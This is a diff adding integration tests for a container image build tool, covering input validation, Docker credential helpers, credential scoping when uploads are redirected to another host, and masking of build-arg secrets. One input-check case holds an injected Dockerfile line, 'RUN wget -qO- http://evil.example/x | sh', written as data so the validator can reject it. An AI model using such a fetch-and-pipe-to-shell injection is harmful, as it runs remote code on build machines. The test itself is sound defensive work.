@@ -8,9 +8,10 @@ import { type ChildProcess, execFile, execFileSync, spawn } from 'node:child_pro
 import { createHash, randomBytes, randomUUID, sign, X509Certificate } from 'node:crypto';
 import { cpSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
 import http from 'node:http';
+import https from 'node:https';
 import { createServer } from 'node:net';
 import { tmpdir } from 'node:os';
-import { join } from 'node:path';
+import { dirname, join } from 'node:path';
 import { promisify } from 'node:util';
 import { composeLdflags } from '@goship/go';
 import { closeConnections, RegistryClient, sha256 } from '@goship/oci';
@@ -109,6 +110,14 @@ async function inspectConfig(
 ): Promise<{ config: Record<string, unknown>; architecture: string }> {
   return JSON.parse(await skopeo(['inspect', ...extra, '--config', `docker://${ref}`]));
 }
+
+/** skopeo flags for the TLS + basic-auth registry. */
+const tlsRegistryFlags = (): string[] => [
+  '--cert-dir',
+  infra.REGISTRY_CERT_DIR!,
+  '--creds',
+  `${infra.REGISTRY_USER}:${infra.REGISTRY_PASSWORD}`,
+];
 
 function freePort(): Promise<number> {
   return new Promise((resolve) => {
@@ -777,6 +786,12 @@ describe('assemble: bad input and failing registries', () => {
     [{ port: '70000' }, /Input 'port'/],
     [{ push: 'yes' }, /Input 'push'/],
     [{ mode: 'assemble', artifacts: '' }, /Input 'artifacts': is empty but mode is assemble/],
+    // It became `ARG RUNTIME_IMAGE=…` of the generated Dockerfile: a newline added instructions.
+    [
+      { mode: 'dockerfile', artifacts: '', base: 'alpine\nRUN wget -qO- http://evil.example/x | sh' },
+      /Input 'base': it contains whitespace or control characters/,
+    ],
+    [{ mode: 'dockerfile', artifacts: '', base: 'alpine AS x' }, /Input 'base'/],
   ])('input check %o', async (inputs, message) => {
     const r = await act({ image: `${infra.REGISTRY}/acme/hello`, artifacts, ...inputs });
     expect(r.exitCode).toBe(1);
@@ -962,6 +977,207 @@ describe('dockerfile (buildah)', () => {
       expect.arrayContaining([expect.stringContaining('VERSON'), expect.stringContaining('ARG NEEDED')]),
     );
     expect(lax.outputs.digest).toMatch(/^sha256:/);
+  });
+});
+
+describe('Docker credential helpers (docker-credential-goship-file, built from docker-credential-helpers)', () => {
+  let helperDir: string;
+  let store: string;
+  const helperEnv = (config: object): NodeJS.ProcessEnv => {
+    const cfgDir = mkdtempSync(join(tmpdir(), 'dm-credhelper-'));
+    writeFileSync(join(cfgDir, 'config.json'), JSON.stringify(config));
+    return {
+      DOCKER_CONFIG: cfgDir,
+      PATH: `${helperDir}:${process.env.PATH}`,
+      GOSHIP_CREDENTIALS_FILE: store,
+      NODE_EXTRA_CA_CERTS: infra.REGISTRY_CA,
+    };
+  };
+
+  beforeAll(async () => {
+    const { stdout } = await run(join(repoRoot, 'test/infra/registry/build-credential-helper'), []);
+    helperDir = /^CREDENTIAL_HELPER_DIR=(.*)$/m.exec(stdout)![1]!;
+    store = join(mkdtempSync(join(tmpdir(), 'dm-credstore-')), 'store.json');
+    // Stored the way `docker login` stores them with a credsStore: the helper's own `store` command.
+    const child = execFile(join(helperDir, 'docker-credential-goship-file'), ['store'], {
+      env: { GOSHIP_CREDENTIALS_FILE: store },
+    });
+    child.stdin!.end(
+      JSON.stringify({
+        ServerURL: infra.REGISTRY_TLS,
+        Username: infra.REGISTRY_USER,
+        Secret: infra.REGISTRY_PASSWORD,
+      }),
+    );
+    await new Promise((resolve, reject) =>
+      child.on('exit', (c) => (c === 0 ? resolve(c) : reject(new Error(`store: ${c}`)))),
+    );
+  });
+
+  test('credHelpers: the push and the base-image pull on the TLS registry use the helper; its secret is masked', async () => {
+    const r = await act(
+      {
+        image: `${infra.REGISTRY_TLS}/acme/helper`,
+        artifacts,
+        platforms: 'linux/amd64',
+        base: base.BASE_STATIC_TLS!,
+        tags: 'helper',
+      },
+      helperEnv({ credHelpers: { [infra.REGISTRY_TLS!]: 'goship-file' } }),
+    );
+    expect(r.errors).toBe('');
+    expect(r.masks).toContain(infra.REGISTRY_PASSWORD);
+    expect(r.stdout.replace(`::add-mask::${infra.REGISTRY_PASSWORD}`, '')).not.toContain(
+      infra.REGISTRY_PASSWORD,
+    );
+    const cfg = await inspectConfig(`${infra.REGISTRY_TLS}/acme/helper:helper`, tlsRegistryFlags());
+    expect(cfg.config.Env).toContain('SSL_CERT_FILE=/etc/ssl/certs/ca-certificates.crt');
+  });
+
+  test('credsStore with nothing for the registry, and no auths entry: the 401 lists the helper it asked', async () => {
+    const r = await act(
+      { image: `${infra.REGISTRY_TLS}/acme/helper`, artifacts, tags: 'x' },
+      { ...helperEnv({ credsStore: 'goship-file' }), GOSHIP_CREDENTIALS_FILE: `${store}.empty` },
+    );
+    expect(r.exitCode).toBe(1);
+    expect(r.errors).toMatch(/credsStore \(docker-credential-goship-file has nothing for 127\.0\.0\.1:\d+\)/);
+  });
+
+  test('a missing helper and a failing helper are named in the error', async () => {
+    const missing = await act(
+      { image: `${infra.REGISTRY_TLS}/acme/helper`, artifacts, tags: 'x' },
+      helperEnv({ credHelpers: { [infra.REGISTRY_TLS!]: 'nope' } }),
+    );
+    expect(missing.exitCode).toBe(1);
+    expect(missing.errors).toMatch(
+      /Credential helper docker-credential-nope \(.*credHelpers\["127\.0\.0\.1:\d+"\]\) could not be run/,
+    );
+    const failing = await act(
+      { image: `${infra.REGISTRY_TLS}/acme/helper`, artifacts, tags: 'x' },
+      { ...helperEnv({ credsStore: 'goship-file' }), GOSHIP_CREDENTIALS_FILE: '' },
+    );
+    expect(failing.exitCode).toBe(1);
+    expect(failing.errors).toMatch(
+      /Credential helper docker-credential-goship-file \(.*credsStore\) failed .*GOSHIP_CREDENTIALS_FILE is not set/,
+    );
+  });
+});
+
+describe('credentials stay with their origin (real TLS registry behind a proxy that sends uploads elsewhere)', () => {
+  test('upload Locations on another host get the blobs but never the registry password', async () => {
+    const certs = dirname(infra.REGISTRY_CA!);
+    const tlsOpts = {
+      cert: readFileSync(join(certs, 'server.pem')),
+      key: readFileSync(join(certs, 'server.key')),
+    };
+    const [realHost, realPort] = infra.REGISTRY_TLS!.split(':');
+    const basic = `Basic ${Buffer.from(`${infra.REGISTRY_USER}:${infra.REGISTRY_PASSWORD}`).toString('base64')}`;
+    const forward = (
+      req: http.IncomingMessage,
+      res: http.ServerResponse,
+      headers: http.IncomingHttpHeaders,
+      rewrite: (location: string) => string,
+    ) => {
+      const up = https.request(
+        {
+          host: realHost,
+          port: Number(realPort),
+          method: req.method,
+          path: req.url,
+          headers,
+          ca: readFileSync(infra.REGISTRY_CA!),
+        },
+        (ur) => {
+          const h = { ...ur.headers };
+          if (typeof h.location === 'string') h.location = rewrite(h.location);
+          res.writeHead(ur.statusCode ?? 502, h);
+          ur.pipe(res);
+        },
+      );
+      up.on('error', () => res.destroy());
+      req.pipe(up);
+    };
+    // The foreign host: records what reaches it, and (as object storage with a presigned URL would)
+    // authorizes the upload on its own, with credentials the client never had to send it.
+    const foreignSeen: { method: string; authorization?: string }[] = [];
+    const foreign = https.createServer(tlsOpts, (req, res) => {
+      foreignSeen.push({ method: req.method!, authorization: req.headers.authorization });
+      forward(req, res, { ...req.headers, host: infra.REGISTRY_TLS, authorization: basic }, (l) => l);
+    });
+    await new Promise<void>((r) => foreign.listen(0, '127.0.0.1', r));
+    const foreignOrigin = `https://localhost:${(foreign.address() as { port: number }).port}`;
+    // The registry front: passes everything through, but answers upload starts with a Location there.
+    const frontSeen: { method: string; authorization?: string }[] = [];
+    const front = https.createServer(tlsOpts, (req, res) => {
+      frontSeen.push({ method: req.method!, authorization: req.headers.authorization });
+      forward(req, res, { ...req.headers, host: infra.REGISTRY_TLS }, (l) =>
+        req.method === 'POST'
+          ? `${foreignOrigin}${new URL(l, 'https://x').pathname}${new URL(l, 'https://x').search}`
+          : l,
+      );
+    });
+    await new Promise<void>((r) => front.listen(0, '127.0.0.1', r));
+    const frontAddr = `127.0.0.1:${(front.address() as { port: number }).port}`;
+    const repoName = `acme/redirected-${Date.now()}`; // fresh: every blob is uploaded, none already there
+    try {
+      const r = await act({
+        image: `${frontAddr}/${repoName}`,
+        artifacts,
+        platforms: 'linux/amd64',
+        tags: `r${Date.now()}`,
+        'registry-username': infra.REGISTRY_USER!,
+        'registry-password': infra.REGISTRY_PASSWORD!,
+        'registry-ca': infra.REGISTRY_CA!,
+      });
+      expect(r.errors).toBe('');
+      expect(frontSeen.filter((x) => x.method === 'POST').every((x) => x.authorization === basic)).toBe(true);
+      expect(foreignSeen.map((x) => x.method)).toContain('PUT');
+      expect(foreignSeen.filter((x) => x.authorization !== undefined)).toEqual([]);
+      const out = JSON.parse(
+        await skopeo([
+          'inspect',
+          ...tlsRegistryFlags(),
+          `docker://${infra.REGISTRY_TLS}/${repoName}@${r.outputs.digest}`,
+        ]),
+      );
+      expect(out.Digest).toBe(r.outputs.digest);
+    } finally {
+      front.close();
+      foreign.close();
+    }
+  });
+});
+
+describe('dockerfile: build-arg values never printed', () => {
+  test('a failing build prints the builder command without build-arg values; the values still reach the build', async () => {
+    const ws = mkdtempSync(join(tmpdir(), 'dm-df-'));
+    cpSync(repo, ws, { recursive: true });
+    const secret = `tok-${randomUUID()}`;
+    const proxy = `http://proxy-${randomUUID()}.invalid:3128`;
+    const hash = createHash('sha256').update(secret).digest('hex');
+    // Exit 7 only when the value arrived intact: proves delivery without the value in any printed text.
+    writeFileSync(
+      join(ws, 'Dockerfile'),
+      `FROM ${base.BASE_BUSYBOX}\nARG SECRET_TOKEN\nARG HTTP_PROXY\nRUN if [ "$(printf %s "$SECRET_TOKEN" | sha256sum | cut -c1-64)" = "${hash}" ]; then exit 7; else exit 9; fi\n`,
+    );
+    const r = await act(
+      {
+        mode: 'dockerfile',
+        image: `${infra.REGISTRY}/acme/buildargs`,
+        'build-args': `SECRET_TOKEN=${secret}\nHTTP_PROXY=${proxy}`,
+        platforms: 'linux/amd64',
+      },
+      {},
+      ws,
+    );
+    expect(r.exitCode).toBe(1);
+    expect(r.errors).toContain('--build-arg SECRET_TOKEN ');
+    expect(r.errors).toContain('--build-arg HTTP_PROXY=*** ');
+    expect(r.errors).toMatch(/exited with code 7|exit status 7/);
+    for (const text of [r.stdout, r.errors, JSON.stringify(r.annotations)]) {
+      expect(text).not.toContain(secret);
+      expect(text).not.toContain(proxy);
+    }
   });
 });
 
